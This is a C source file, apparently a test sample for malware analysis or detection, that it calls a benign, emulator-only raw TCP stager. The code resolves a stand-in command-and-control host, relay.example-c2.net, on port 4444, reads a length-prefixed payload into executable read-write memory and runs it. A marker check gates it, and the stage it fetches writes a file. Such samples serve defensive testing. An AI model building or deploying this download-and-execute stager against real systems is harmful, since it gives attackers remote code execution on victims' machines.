/*
 * stager.c - generality suite: a raw TCP stager (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * Resolves relay.example-c2.net, connects to port 4444, reads a 4-byte length and then that
 * many bytes of code into a new PAGE_EXECUTE_READWRITE allocation, and calls it with its
 * context block (no HTTP: the responder's raw `stream` answer). The stage writes
 * C:\Users\Public\lineage_stager.txt.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 short read, 4 memory.
 */
#include <winsock2.h> /* before common.h's windows.h */
#include "common.h"

static int recv_all(SOCKET s, char *buf, int len)
{
    int got = 0, n;
    while (got < len) {
        n = recv(s, buf + got, len - got, 0);
        if (n <= 0)
            return 0;
        got += n;
    }
    return 1;
}

void Entry(void)
{
    typedef DWORD (WINAPI *stage_t)(struct sc_ctx *);
    static struct sc_ctx ctx;
    WSADATA wsa;
    struct hostent *host;
    struct sockaddr_in addr;
    SOCKET s;
    DWORD size = 0;
    char *mem;
    int i;

    if (!marker_present())
        ExitProcess(1);
    if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0)
        ExitProcess(2);
    host = gethostbyname("relay.example-c2.net");
    if (!host)
        ExitProcess(2);
    for (i = 0; i < (int)sizeof(addr); i++)
        ((char *)&addr)[i] = 0;
    addr.sin_family = AF_INET;
    addr.sin_port = htons(4444);
    addr.sin_addr.s_addr = *(unsigned long *)host->h_addr_list[0];
    s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    if (s == INVALID_SOCKET || connect(s, (struct sockaddr *)&addr, sizeof(addr)) != 0)
        ExitProcess(2);
    if (!recv_all(s, (char *)&size, 4) || size == 0 || size > 0x10000)
        ExitProcess(3);
    mem = (char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!mem)
        ExitProcess(4);
    if (!recv_all(s, mem, (int)size))
        ExitProcess(3);
    closesocket(s);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_stager.txt", "stage read from a raw TCP socket\n");
    ((stage_t)(void *)mem)(&ctx);
    ExitProcess(0);
}
